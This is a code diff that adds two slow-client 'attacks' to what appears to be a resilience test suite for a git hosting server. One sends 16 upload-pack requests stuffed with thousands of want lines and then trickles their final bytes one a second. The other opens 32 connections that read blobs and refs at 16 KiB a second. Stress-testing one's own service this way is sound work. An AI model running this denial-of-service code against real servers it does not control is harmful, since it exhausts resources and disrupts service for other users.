@@ -31,6 +31,37 @@ const slowFetches: Attack = {
   }
 }
 
+const longFetches: Attack = {
+  title: "16 fetches of which all but 300 KiB come in one byte a second",
+  prepare: async (target) => {
+    const { history } = target
+    const wants = Buffer.from(packet(`want ${history.pairs[0]?.to}\n`).repeat(6_000))
+    const headers = {
+      "content-type": "application/x-git-upload-pack-request",
+      "content-length": String(wants.length + 1_000)
+    }
+    async function* body() {
+      yield wants
+      yield* slowly(Buffer.alloc(1_000, "0"))
+    }
+    const url = `${repositoryUrl(target, history)}/git-upload-pack`
+    return () => callers(16, (caller) => call(caller, { method: "POST", url, headers, body: Readable.from(body()) }))
+  }
+}
+
+const slowReaders: Attack = {
+  title: "32 readers of a blob and of many refs who take 16 KiB a second",
+  prepare: async (target) => {
+    const { long, url } = target
+    const paths = [
+      `${url}/projects/${long.id}/repository/blobs/${long.blob}/raw`,
+      `${repositoryUrl(target, long)}/info/refs?service=git-upload-pack`
+    ]
+    return () =>
+      callers(32, (caller, index) => call(caller, { url: paths[(caller + index) % 2] ?? "", bytesPerSecond: 16 * 1024 }))
+  }
+}
+
 const silentPushes: Attack = {
   title: "16 pushes that fall silent behind their commands",
   prepare: async (target) => {
@@ -47,4 +78,4 @@ const silentPushes: Attack = {
   }
 }
 
-export const slowClients = { slowFetches, silentPushes }
+export const slowClients = { slowFetches, longFetches, slowReaders, silentPushes }
